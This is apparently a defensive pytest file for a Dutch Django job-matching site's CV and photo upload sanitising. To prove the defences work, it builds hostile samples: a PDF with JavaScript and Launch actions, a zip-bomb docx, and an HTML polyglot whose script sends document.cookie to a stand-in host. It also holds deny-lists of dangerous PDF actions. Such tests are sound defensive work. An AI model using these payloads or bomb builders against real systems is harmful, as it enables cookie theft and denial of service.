"""Issue #12: uploads were checked, not cleaned. A pdf with /OpenAction JavaScript reached werkgevers, "%PDF-"
followed by html was accepted, a 1 MB docx that inflates to 1 GiB was accepted, a 150 MB upload was read
completely before it was refused, and files were stored world-readable.

The samples are built here, in the test, with pikepdf and zipfile."""

import io
import os
import socket
import stat
import struct
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from PIL import Image

pytestmark = pytest.mark.django_db

# Everything in a pdf that can run, open, send or carry something.
VERBODEN = {"/OpenAction", "/AA", "/JavaScript", "/JS", "/EmbeddedFiles", "/EmbeddedFile", "/EF", "/XFA"}
VERBODEN_ACTIES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}


def pdf_bytes(pdf):
    uit = io.BytesIO()
    pdf.save(uit)
    return uit.getvalue()


def schone_pdf():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf_bytes(pdf)


def kwaadaardige_pdf():
    """Two pages with every way we know to make a viewer act: open action with JavaScript, document JavaScript
    in the name tree, page and annotation actions, a launch action, a JavaScript link, an attached file, XFA,
    and an outline item that runs JavaScript. Plus one harmless web link that must survive."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pdf.make_stream(b"app.alert('hoi')")))
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()")))
    bijlage = pdf.make_stream(b"MZ pretend this is an exe")
    bijlage.Type = pikepdf.Name.EmbeddedFile
    filespec = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("x.exe"),
                                                    EF=pikepdf.Dictionary(F=bijlage)))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("start"), js])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x.exe"), filespec])))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    pagina = pdf.pages[0].obj
    pagina.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("open()")))
    rect = pikepdf.Array([0, 0, 100, 100])
    pagina.Annots = pdf.make_indirect(pikepdf.Array([
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect,
                                             A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("y()")))),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect,
                                             A=pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                                                  F=pikepdf.String("cmd.exe")))),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect,
                                             A=pikepdf.Dictionary(S=pikepdf.Name.URI,
                                                                  URI=pikepdf.String("javascript:alert(1)")))),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
                                             Rect=rect, FS=filespec)),
        pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect,
                                             A=pikepdf.Dictionary(S=pikepdf.Name.URI,
                                                                  URI=pikepdf.String("https://www.example.nl/")))),
    ]))
    outline = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Kijk"),
                                                   A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript,
                                                                        JS=pikepdf.String("z()"))))
    pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=outline,
                                                             Last=outline, Count=1))
    outline.Parent = pdf.Root.Outlines
    return pdf_bytes(pdf)


def _controleer(obj, gevonden, diepte=0):
    if isinstance(obj, pikepdf.Stream):
        obj = obj.stream_dict
    if isinstance(obj, pikepdf.Dictionary):
        gevonden += [k for k in obj.keys() if k in VERBODEN]
        if str(obj.get("/S", "")) in VERBODEN_ACTIES:
            gevonden.append(str(obj.S))
        if str(obj.get("/Subtype", "")) == "/FileAttachment" and "/FS" in obj:
            gevonden.append("/FileAttachment")
        uri = obj.get("/URI")
        if uri is not None and not bytes(uri).startswith(b"https://"):
            gevonden.append(bytes(uri).decode())
        kinderen = [obj.get(k) for k in obj.keys()]
    elif isinstance(obj, pikepdf.Array):
        kinderen = list(obj)
    else:
        return
    for kind in kinderen:
        if isinstance(kind, (pikepdf.Dictionary, pikepdf.Array)) and not kind.is_indirect and diepte < 50:
            _controleer(kind, gevonden, diepte + 1)


def overtredingen(inhoud):
    """Every forbidden key or action left anywhere in the pdf: every stored object and what is nested in it."""
    gevonden = []
    with pikepdf.open(io.BytesIO(inhoud)) as pdf:
        for obj in pdf.objects:
            _controleer(obj, gevonden)
    return gevonden


def docx(extra=(), content_types="<Types/>"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", content_types)
        z.writestr("word/document.xml", "<w:document>Ervaren monteur</w:document>")
        for naam, inhoud in extra:
            z.writestr(naam, inhoud)
    return buffer.getvalue()


def _ingepakt(inhoud):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(inhoud) + c.flush()


def _zip(delen):
    """A zip written by hand (no data descriptors, no zip64) of parts given as (name, deflated bytes, CRC-32,
    unpacked size), for a part zipfile would first have to deflate."""
    lokaal, centraal = bytearray(), bytearray()
    for naam, data, crc, grootte in delen:
        naam = naam.encode()
        # version needed, flags, method, time, date (1980-01-01), CRC, sizes
        kop = struct.pack("<HHHHHIII", 20, 0, zipfile.ZIP_DEFLATED, 0, 0x21, crc, len(data), grootte)
        centraal += (b"PK\x01\x02" + struct.pack("<H", 20) + kop
                     + struct.pack("<HHHHHII", len(naam), 0, 0, 0, 0, 0, len(lokaal)) + naam)
        lokaal += b"PK\x03\x04" + kop + struct.pack("<HH", len(naam), 0) + naam + data
    eind = struct.pack("<HHHHIIH", 0, 0, len(delen), len(delen), len(centraal), len(lokaal), 0)
    return bytes(lokaal + centraal + b"PK\x05\x06" + eind)


@pytest.fixture(scope="module")
def zipbom():
    """About 1 MB that unpacks to 1 GiB: one part of zeros. zipfile would deflate the whole GiB (5 s); with a full
    flush after each MiB every MiB deflates to the same bytes, so one is deflated and repeated."""
    mib = b"\0" * (1024 * 1024)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    per_mib = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    assert c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH) == per_mib  # the same bytes each MiB
    crc = 0
    for _i in range(1024):
        crc = zlib.crc32(mib, crc)
    delen = [(naam, _ingepakt(inhoud), zlib.crc32(inhoud), len(inhoud))
             for naam, inhoud in (("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"))]
    bom = _zip([*delen, ("word/media/image1.png", per_mib * 1024 + c.flush(), crc, 1024 ** 3)])
    with zipfile.ZipFile(io.BytesIO(bom)) as z:  # a zip as zipfile reads it, of 1 GiB
        assert z.read("word/document.xml") == b"<w:document/>"
        assert z.getinfo("word/media/image1.png").file_size == 1024 ** 3
        with z.open("word/media/image1.png") as deel:
            assert deel.read(4 * 1024 * 1024) == b"\0" * (4 * 1024 * 1024)
    return bom


def foto_met_locatie(breedte=1200, hoogte=900, orientatie=1):
    """A phone photo as a camera writes it: a jpeg with the device, the time and where it was taken (GPS)."""
    foto = Image.new("RGB", (breedte, hoogte), (200, 220, 240))
    exif = Image.Exif()
    exif[0x0110] = "Pixel 7"  # Model
    exif[0x0132] = "2026:12:07 10:15:00"  # DateTime
    exif[0x0112] = orientatie  # Orientation
    exif[0x8825] = {1: "N", 2: (52.0, 5.0, 0.0), 3: "E", 4: (5.0, 55.0, 0.0)}  # GPS: Arnhem
    uit = io.BytesIO()
    foto.save(uit, format="JPEG", exif=exif)
    inhoud = uit.getvalue()
    assert b"Pixel 7" in inhoud and b"Exif" in inhoud  # the sample really carries the camera's metadata
    return inhoud


def upload(client, wereld, naam, inhoud):
    return client.post(reverse("cv", args=[wereld.kandidaat.pk]), {"cv": SimpleUploadedFile(naam, inhoud)})


def opgeslagen(wereld):
    wereld.kandidaat.refresh_from_db()
    return wereld.kandidaat.cv


# --- pdf -------------------------------------------------------------------------------------------------

def test_a_pdf_with_javascript_is_stored_without_it(client, wereld):
    kwaad = kwaadaardige_pdf()
    assert len(overtredingen(kwaad)) >= 10  # the sample really is malicious
    client.force_login(wereld.werkzoekende_user)
    assert upload(client, wereld, "cv.pdf", kwaad).status_code == 302
    with opgeslagen(wereld).open("rb") as f:
        schoon = f.read()
    assert overtredingen(schoon) == []
    assert b"app.alert" not in schoon and b"cmd.exe" not in schoon and b"pretend this is an exe" not in schoon
    with pikepdf.open(io.BytesIO(schoon)) as pdf:
        assert len(pdf.pages) == 2
        links = [a for a in pdf.pages[0].obj.Annots if "/A" in a]
        assert [bytes(a.A.URI) for a in links] == [b"https://www.example.nl/"]  # an ordinary link stays
    # What the werkgever downloads is the cleaned file.
    wereld.met_bemiddeling()
    client.force_login(wereld.werkgever_user)
    response = client.get(reverse("voordracht_cv", args=[wereld.voordracht.pk]))
    assert b"".join(response.streaming_content) == schoon


@pytest.mark.parametrize("inhoud", [
    b"%PDF-1.7\n<html><body><script>document.location='https://kwaad.example/'+document.cookie</script></body></html>",
    b"%PDF-1.4\n<!DOCTYPE html><html><head><title>cv</title></head></html>",
], ids=["html", "doctype"])
def test_a_polyglot_that_starts_as_pdf_but_is_html_is_refused(client, wereld, inhoud):
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.pdf", inhoud)
    assert response.status_code == 400
    assert "begint als pdf, maar is een webpagina" in response.content.decode()
    assert not opgeslagen(wereld)


@pytest.mark.parametrize("inhoud", [
    b"%PDF-1.4\nDit is geen pdf maar tekst met een pdf-kop ervoor.\n",
    schone_pdf()[:200],
], ids=["tekst", "afgebroken"])
def test_a_pdf_that_does_not_parse_is_refused_in_dutch(client, wereld, inhoud):
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.pdf", inhoud)
    assert response.status_code == 400
    assert "beschadigd of niet goed te lezen" in response.content.decode()
    assert not opgeslagen(wereld)


# --- docx ------------------------------------------------------------------------------------------------

def test_a_docx_zip_bomb_is_refused_before_it_is_unpacked(client, wereld, zipbom):
    assert len(zipbom) < 2 * 1024 * 1024
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.docx", zipbom)
    assert response.status_code == 400 and "veel te groot" in response.content.decode()
    assert not opgeslagen(wereld)


def test_a_docx_with_an_absurd_ratio_is_refused_even_when_small(client, wereld):
    bom = docx(extra=[("word/media/image1.png", b"\0" * (20 * 1024 * 1024))])  # 20 MB in about 20 kB
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.docx", bom)
    assert response.status_code == 400 and "veel te groot" in response.content.decode()


def test_a_docx_whose_directory_lies_about_sizes_is_refused(client, wereld):
    """The central directory says 10 bytes; the part inflates to 5 MB. Reading stops at the stated size and
    the CRC check fails, instead of filling memory."""
    echt = docx(extra=[("word/media/image1.png", os.urandom(16) + b"\0" * (5 * 1024 * 1024))])
    z = zipfile.ZipFile(io.BytesIO(echt))
    info = z.getinfo("word/media/image1.png")
    vervalst = bytearray(echt)
    kleine = (10).to_bytes(4, "little")
    # The uncompressed size in the local header (offset 22) and in the central directory entry (offset 24).
    vervalst[info.header_offset + 22:info.header_offset + 26] = kleine
    positie = vervalst.find(b"word/media/image1.png", echt.index(b"PK\x01\x02")) - 46
    assert vervalst[positie:positie + 4] == b"PK\x01\x02"
    vervalst[positie + 24:positie + 28] = kleine
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.docx", bytes(vervalst))
    assert response.status_code == 400 and "Dit Word-bestand is beschadigd" in response.content.decode()
    assert not opgeslagen(wereld)


@pytest.mark.parametrize("extra,content_types,melding", [
    ([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")], "<Types/>", "macro"),
    ([], '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>', "macro"),
    ([("word/embeddings/blad.xlsx", docx())], "<Types/>", "ander ingepakt bestand"),
], ids=["vbaproject", "docm", "nested-zip"])
def test_a_docx_with_macros_or_a_nested_zip_is_refused(client, wereld, extra, content_types, melding):
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.docx", docx(extra=extra, content_types=content_types))
    assert response.status_code == 400 and melding in response.content.decode()
    assert not opgeslagen(wereld)


def test_a_long_cv_of_repetitive_xml_that_packs_very_well_is_accepted(client, wereld):
    """Word's xml repeats itself: 2 MB of table rows can pack 200 times. Small and harmless, so accepted."""
    rijen = "<w:tr><w:tc><w:p><w:r><w:t>Monteur</w:t></w:r></w:p></w:tc></w:tr>" * 30_000
    inhoud = docx(extra=[("word/glossary/document.xml", rijen)])
    assert len(rijen) / len(inhoud) > 100
    client.force_login(wereld.werkzoekende_user)
    assert upload(client, wereld, "cv.docx", inhoud).status_code == 302


def test_an_ordinary_docx_with_a_photo_is_accepted_as_it_is(client, wereld):
    inhoud = docx(extra=[("word/media/foto.jpg", os.urandom(200_000))])
    client.force_login(wereld.werkzoekende_user)
    assert upload(client, wereld, "cv.docx", inhoud).status_code == 302
    with opgeslagen(wereld).open("rb") as f:
        assert f.read() == inhoud


# --- size and storage ------------------------------------------------------------------------------------

def test_stored_files_are_readable_by_the_service_only(client, wereld):
    client.force_login(wereld.werkzoekende_user)
    assert upload(client, wereld, "cv.pdf", schone_pdf()).status_code == 302
    pad = opgeslagen(wereld).path
    assert stat.S_IMODE(os.stat(pad).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(pad)).st_mode) == 0o700


def test_too_big_body_is_refused_by_the_test_client_with_a_dutch_413(client, wereld):
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.pdf", b"%PDF-1.4\n" + b"0" * (12 * 1024 * 1024))
    assert response.status_code == 413 and "Dit bestand is te groot" in response.content.decode()
    assert not opgeslagen(wereld)


@override_settings(UPLOAD_MAX_BYTES=256 * 1024, MIDDLEWARE=[
    m for m in __import__("django.conf").conf.settings.MIDDLEWARE if not m.endswith("UploadLimietMiddleware")])
def test_without_an_announced_size_the_upload_handler_stops_reading_and_the_form_says_why(client, wereld):
    """A body that did not announce its size (or a middleware order that changed) still cannot pass the limit:
    the first upload handler stops at UPLOAD_MAX_BYTES and the form says the file is too big."""
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.pdf", b"%PDF-1.4\n" + os.urandom(600 * 1024))
    assert response.status_code == 400 and "groter dan 10 MB" in response.content.decode()
    assert not opgeslagen(wereld)


def test_a_150_mb_upload_is_refused_before_the_server_reads_it(live_server):
    """A real HTTP server: the client announces 150 MB, sends the headers and 256 kB, and then waits. The server
    answers 413 without waiting for the rest. (Without the early check Django's multipart parser keeps reading
    and the client's wait ends in a timeout, with no answer.)"""
    host, poort = live_server.url.removeprefix("http://").split(":")
    aangekondigd = 150 * 1024 * 1024
    grens = "----klantreis"
    kop = (f"POST /dossiers/1/cv/ HTTP/1.1\r\nHost: {host}\r\n"
           f"Content-Type: multipart/form-data; boundary={grens}\r\nContent-Length: {aangekondigd}\r\n\r\n"
           f"--{grens}\r\nContent-Disposition: form-data; name=\"cv\"; filename=\"cv.pdf\"\r\n"
           f"Content-Type: application/pdf\r\n\r\n%PDF-1.4\n").encode()
    verstuurd = 0
    with socket.create_connection((host, int(poort)), timeout=30) as verbinding:
        verbinding.sendall(kop)
        verstuurd += len(kop)
        blok = b"0" * (64 * 1024)
        for _i in range(4):
            verbinding.sendall(blok)
            verstuurd += len(blok)
        antwoord = b""
        while b"</html>" not in antwoord:
            deel = verbinding.recv(65536)  # socket timeout 30 s: no answer at all fails the test
            if not deel:
                break
            antwoord += deel
    assert antwoord.startswith(b"HTTP/1.1 413")
    assert "Dit bestand is te groot" in antwoord.decode("utf-8", "replace")
    assert verstuurd < 400 * 1024 < aangekondigd


# --- foto ------------------------------------------------------------------------------------------------

def test_a_photo_of_a_diploma_is_stored_as_a_pdf_upright_and_without_the_location(client, wereld):
    """On a phone a diploma or a letter is a photo; asking for a pdf made the werkzoekende give up. The photo is
    decoded, turned as the camera says, and written anew on an A4 page: the location, the device and the time the
    camera wrote do not go along to a werkgever."""
    client.force_login(wereld.werkzoekende_user)
    response = client.post(reverse("mijn_documenten"), {
        "soort": "diploma", "titel": "Diploma mbo 2",
        "bestand": SimpleUploadedFile("IMG_2041.jpg", foto_met_locatie(orientatie=6))})
    assert response.status_code == 302, response.content.decode()[:2000]
    document = wereld.kandidaat.documenten.get()
    assert (document.bestandssoort, document.bestandsnaam) == ("pdf", "IMG_2041.pdf")
    with document.bestand.open("rb") as f:
        inhoud = f.read()
    assert inhoud.startswith(b"%PDF-") and b"Exif" not in inhoud and b"Pixel 7" not in inhoud
    with pikepdf.open(io.BytesIO(inhoud)) as pdf:
        [pagina] = pdf.pages
        [beeld] = [pikepdf.PdfImage(x) for x in pagina.get_images().values()]
        # Orientation 6: the camera held upright wrote a landscape image; upright it is portrait.
        assert beeld.width < beeld.height
        assert pagina.mediabox[3] > pagina.mediabox[2]  # an upright A4 page


def test_a_cv_stays_a_pdf_or_word_file_not_a_photo(client, wereld):
    """A cv is read for the matching; a photo of it is not: refused in Dutch, and nothing is stored."""
    client.force_login(wereld.werkzoekende_user)
    response = upload(client, wereld, "cv.jpg", foto_met_locatie())
    assert response.status_code == 400
    assert "Dit is geen pdf- of Word-bestand" in response.content.decode()
    assert not opgeslagen(wereld)


@pytest.mark.parametrize("inhoud", [b"\xff\xd8\xff\xe0 niet echt een jpeg", b"\x89PNG\r\n\x1a\n kapot"])
def test_a_broken_photo_is_refused_in_dutch(client, wereld, inhoud):
    client.force_login(wereld.werkzoekende_user)
    response = client.post(reverse("mijn_documenten"), {
        "soort": "diploma", "bestand": SimpleUploadedFile("foto.jpg", inhoud)})
    assert response.status_code == 400
    assert "Deze foto is beschadigd of niet te lezen" in response.content.decode()
    assert not wereld.kandidaat.documenten.exists()
